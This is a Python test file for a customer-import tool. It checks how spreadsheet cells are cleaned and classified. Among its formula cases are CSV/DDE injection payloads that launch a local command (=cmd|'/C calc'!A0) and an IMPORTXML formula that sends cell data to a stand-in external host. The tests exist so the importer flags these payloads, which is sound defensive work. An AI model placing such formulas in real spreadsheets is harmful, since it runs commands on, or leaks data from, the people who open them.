"""Cells as their spreadsheet shows them, and what kind of text they hold."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.cli.import_customers.cell_text import CellKind, kind, says_nothing, shown, value


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("  Brightforge   Ltd ", "Brightforge Ltd"),
        ("\ufeffPlinth Works", "Plinth Works"),
        ("Zero\u200bwidth", "Zerowidth"),
        ("\u00a0No\u00a0break\u202f", "No break"),
        ("Soft\u00adhyphen", "Softhyphen"),
        ("\u200fشركة\u200e", "شركة"),
        ("Bell\x07ring", "Bellring"),
        ("Ac\0me", "Acme"),
        ("Brightforge &amp; Sons", "Brightforge & Sons"),
        ("M&amp;amp;M", "M&M"),
        ("Caf&eacute; &#38; Bar", "Café & Bar"),
        ("AT&T", "AT&T"),
        ("Black&copper", "Black&copper"),
        ('="Plinth Works"', "Plinth Works"),
        ('="6"" Pipe Co"', '6" Pipe Co'),
        ('=HYPERLINK("https://brightforge.example","Brightforge")', "Brightforge"),
        ('=hyperlink("https://brightforge.example"; "Brightforge")', "Brightforge"),
        ('=LIEN_HYPERTEXTE("https://f.example";"Forge ""Claire""")', 'Forge "Claire"'),
        ('=HYPERLINK("https://brightforge.example")', "https://brightforge.example"),
        ('<a href="https://x.example" target="_blank">Brightforge</a>', "Brightforge"),
        ("[Brightforge](https://x.example)", "Brightforge"),
        ("'=Harrow", "=Harrow"),
        ("'+Plus", "+Plus"),
        ("'s-Hertogenbosch Works", "'s-Hertogenbosch Works"),
        ("👩\u200d🔧 Repairs", "👩\u200d🔧 Repairs"),
    ],
)
def test_a_cell_is_read_as_it_is_shown(raw: str, text: str) -> None:
    assert shown(raw).text == text


KINDS = {
    CellKind.TEXT: "Brightforge|P&O|3M|'=Harrow|@Home|+Plus Industries|#1 Plumbing|Null Industries|Nadir|1&1|"
    "A123 Systems|🚀 Rocket Labs|C++ Ltd|北浜製鉄|Canal+|Total: Care",
    CellKind.NOTHING: "|-|—|--|...|?|N/A|n.a.|k.A.|NULL|none|(blank)|[not provided]|(leer)|Unbekannt|なし|_",
    CellKind.ERROR: "#N/A|#REF!|#NAME?|#DIV/0!|#BEZUG!|#¿NOMBRE?|#NV|######|#REF! Ltd|Brightforge #REF!",
    CellKind.FORMULA: "=cmd|'/C calc'!A0;+cmd|'/C calc'!A0;-2+3+cmd|x!A0;@SUM(1+1)*cmd|x!A0;'=cmd|x!A0;=1+1;=Harrow;"
    '=A1;=IMPORTXML(CONCAT("http://x.example",A1),"//a");\t=1+1',
    CellKind.SHORTENED: "1.23457E+11|1,23E+05|4E+10|-1.0e-7",
    CellKind.NUMBER: "10023|12.5|+49 30 1234|28/11/2026|2026-11-28|2026-11-28T10:00:00Z|1,000.00 €|360",
    CellKind.ID: "8d9619ff-8b86-d011-b42d-00cf4fc964bb|001xx000003DGbYAAW|001xx000003DGbY|rec1a2B3c4D5e6F7g|lead_1|"
    "zcrm_554023000000527001|0f3a1b2c3d4e5f60718293a4b5c6d7e8",
    CellKind.ADDRESS: "https://x.example|www.x.example/a|HTTP://X.EXAMPLE",
    CellKind.MAIL: "mara@b.example|mailto:mara@b.example",
    CellKind.SIGNS: "🚀|:)|!!!",
    CellKind.CODE: "K10023|CUST-0001|KD 4711",
    CellKind.BARE_DOMAIN: "booking.com|shop.brightforge.example",
    CellKind.FLAG: "Yes|nein|TRUE|はい",
}


@pytest.mark.parametrize("what", KINDS)
def test_what_kind_of_text_a_cell_holds(what: CellKind) -> None:
    cells = KINDS[what].split(";" if what is CellKind.FORMULA else "|")
    wrong = {raw: kind(shown(raw)) for raw in cells if kind(shown(raw)) is not what}
    assert wrong == {}


def test_a_role_or_place_that_says_nothing_is_none() -> None:
    assert [value(shown(raw)) for raw in ("n/a", "#REF!", "=1+1", "🙂", "75001 Paris")] == [
        *[""] * 4,
        "75001 Paris",
    ]


@given(st.text(max_size=40))
def test_reading_a_cell_never_fails_and_leaves_nothing_unseen(raw: str) -> None:
    cell = shown(raw)
    assert cell.text == " ".join(cell.text.split())
    assert not set(cell.text) & set("\0\ufeff\u200b\u202e")
    assert (kind(cell) is CellKind.NOTHING) == says_nothing(cell.text)


@given(st.from_regex(r"[=+@-][A-Za-z0-9 ]{0,6}[a-z][|(][^\n]{0,12}![A-Z][0-9]", fullmatch=True))
def test_another_program_is_never_called_by_a_name(raw: str) -> None:
    for each in (raw, f"'{raw}", f"\ufeff{raw}", f" {raw}"):
        assert kind(shown(each)) not in (CellKind.TEXT, CellKind.CODE, CellKind.BARE_DOMAIN)
